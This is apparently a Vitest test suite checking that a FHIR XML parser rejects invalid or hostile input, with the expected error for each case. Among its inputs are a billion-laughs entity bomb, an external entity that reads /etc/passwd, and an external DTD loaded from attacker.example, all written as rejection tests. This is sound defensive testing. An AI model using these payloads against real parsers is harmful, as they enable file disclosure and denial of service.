import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fromXml } from '../../../src/fhir/model/xml/from-xml.ts';
import { XmlError } from '../../../src/fhir/model/xml/xml-error.ts';
import { r4Elements } from '../../../src/fhir/r4/elements.ts';

const FHIR = 'xmlns="http://hl7.org/fhir"';
const patient = (content: string) => `<Patient ${FHIR}>${content}</Patient>`;
const narrative = (content: string) =>
  patient(`<text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml">${content}</div></text>`);

const LAUGHS = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

describe('invalid XML is rejected, with the reason and the position', () => {
  it.each([
    // OWASP XML External Entity Prevention: document type declarations are not allowed at all.
    [
      'a billion laughs',
      `<!DOCTYPE Patient [<!ENTITY l0 "lol">${LAUGHS}]>${patient('<language value="&l9;"/>')}`,
      'Line 1: Document type declarations are not allowed in FHIR',
    ],
    [
      'an external entity',
      `<!DOCTYPE Patient [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${patient('<language value="&x;"/>')}`,
      'Document type declarations are not allowed in FHIR',
    ],
    [
      'an external DTD',
      `<!DOCTYPE Patient SYSTEM "http://attacker.example/a.dtd">${patient('')}`,
      'Document type declarations are not allowed in FHIR',
    ],
    ['an undeclared entity', patient('<language value="&x;"/>'), 'undefined entity'],
    [
      'an entity with the name of a JavaScript property',
      patient('<language value="&constructor;"/>'),
      'undefined entity',
    ],
    ['endless nesting', patient('<extension url="a">'.repeat(100_000)), 'The document is nested too deep'],
    ['endless nesting in a narrative', narrative('<b>'.repeat(100_000)), 'The narrative is nested too deep'],
    ['no namespace', '<Patient><active value="true"/></Patient>', 'Patient isn’t in the namespace http://hl7.org/fhir'],
    ['another namespace', '<ClinicalDocument xmlns="urn:hl7-org:v3"/>', 'isn’t in the namespace http://hl7.org/fhir'],
    [
      'an element of another namespace',
      patient('<x:active xmlns:x="urn:x" value="true"/>'),
      'x:active isn’t in the namespace',
    ],
    ['an undeclared prefix', '<f:Patient/>', 'unbound namespace prefix'],
    ['an unknown resource', `<Patients ${FHIR}/>`, 'Patients isn’t a resource type of this FHIR version'],
    ['a datatype for a resource', `<HumanName ${FHIR}/>`, 'HumanName isn’t a resource type of this FHIR version'],
    ['a JavaScript property as a resource', `<constructor ${FHIR}/>`, 'constructor isn’t a resource type'],
    [
      'an unknown element',
      patient('\n<surname value="Lee"/>'),
      'Line 2: Patient has no element surname in this FHIR version',
    ],
    ['a JavaScript property as an element', patient('<__proto__ value="a"/>'), 'Patient has no element __proto__'],
    [
      'an unknown element of a datatype',
      patient('<name><surname value="Lee"/></name>'),
      'HumanName has no element surname',
    ],
    ['JSON’s resourceType', patient('<resourceType value="Group"/>'), 'Patient has no element resourceType'],
    ['a choice without its type', patient('<deceased value="true"/>'), 'Patient has no element deceased'],
    [
      'a type that the choice doesn’t have',
      patient('<deceasedString value="x"/>'),
      'Patient has no element deceasedString',
    ],
    [
      'two values of a choice',
      patient('<deceasedBoolean value="true"/><deceasedDateTime value="2020"/>'),
      'There is more than one deceased[x]',
    ],
    [
      'two values of a single element',
      patient('<gender value="male"/><gender value="female"/>'),
      'There is more than one gender',
    ],
    ['an unknown attribute', patient('<active value="true" onload="x"/>'), 'active has the attribute onload'],
    ['an attribute of a resource', `<Patient ${FHIR} id="a"/>`, 'Patient has the attribute id'],
    ['a value attribute on a complex element', patient('<name value="Lee"/>'), 'name has the attribute value'],
    [
      'an attribute of another namespace',
      patient('<active xmlns:x="urn:x" x:value="true"/>'),
      'active has the attribute x:value',
    ],
    [
      'an element instead of an attribute',
      patient('<extension><url value="a"/></extension>'),
      'Extension has no element url',
    ],
    ['text', patient('Lee'), 'Patient contains text'],
    ['text instead of a value', patient('<gender>female</gender>'), 'contains text. In FHIR, values are attributes'],
    ['CDATA text', patient('<![CDATA[Lee]]>'), 'Patient contains text'],
    ['an empty element', patient('<gender/>'), 'gender is empty'],
    ['an empty part', patient('<name></name>'), 'name is empty'],
    ['a missing contained resource', patient('<contained/>'), 'contained contains no resource'],
    [
      'two resources in one place',
      patient('<contained><Basic/><Basic/></contained>'),
      'contained contains more than one resource',
    ],
    [
      'a narrative that isn’t XHTML',
      patient('<text><div>a</div></text>'),
      'div isn’t in the namespace http://www.w3.org/1999/xhtml',
    ],
    [
      'FHIR in a narrative',
      narrative(`<active ${FHIR} value="true"/>`),
      'The narrative contains active, which isn’t allowed in XHTML',
    ],
    [
      'text for a number',
      `<Observation ${FHIR}><valueInteger value="many"/></Observation>`,
      'valueInteger must be a number such as 1.50',
    ],
    [
      'a JavaScript number that isn’t a decimal',
      `<Observation ${FHIR}><valueInteger value="0x10"/></Observation>`,
      'valueInteger must be a number',
    ],
    [
      'an endless number',
      `<Observation ${FHIR}><valueQuantity><value value="INF"/></valueQuantity></Observation>`,
      'value must be a number',
    ],
    ['1 for true', patient('<active value="1"/>'), 'active must be true or false'],
    [
      'XML that isn’t well-formed',
      patient('<name><text value="a"/></nam></name>'),
      'The document isn’t well-formed XML: ',
    ],
    ['two documents', `${patient('')}${patient('')}`, 'The document isn’t well-formed XML: '],
    ['nothing', '', 'The document isn’t well-formed XML: '],
    [
      'a character that XML doesn’t allow',
      patient('<language value="a&#0;"/>'),
      'The document isn’t well-formed XML: ',
    ],
    [
      'XML 1.1, which allows more characters',
      `<?xml version="1.1"?>${patient('<language value="a&#1;"/>')}`,
      'The document isn’t well-formed XML: ',
    ],
    ['JSON', '{"resourceType":"Patient"}', 'The document isn’t well-formed XML: '],
    ['excessive length', ' '.repeat((1 << 25) + 1), 'The document is longer than'],
  ])('%s', (_, xml, words) => {
    expect(() => fromXml(xml, r4Elements)).toThrow(XmlError);
    expect(() => fromXml(xml, r4Elements)).toThrow(words);
  });

  it('any input is read or rejected, and never causes another error', () => {
    const pieces = fc.constantFrom(
      '<Patient xmlns="http://hl7.org/fhir">',
      '</Patient>',
      '<name>',
      '</name>',
      '<text value="a"/>',
      '<text>',
      '</text>',
      '<div xmlns="http://www.w3.org/1999/xhtml">',
      '</div>',
      '<contained>',
      '</contained>',
      '<extension url="a">',
      '</extension>',
      '<birthDate value="1970"/>',
      '<![CDATA[',
      ']]>',
      '<!--',
      '-->',
      '&amp;',
      '&nbsp;',
      ' ',
      'a',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
        const xml = parts.join('');
        try {
          expect(JSON.parse(fromXml(xml, r4Elements)).resourceType).toBe('Patient');
        } catch (error) {
          expect(error).toBeInstanceOf(XmlError);
        }
      }),
      { seed: 1, numRuns: 1_000 },
    );
  });
});
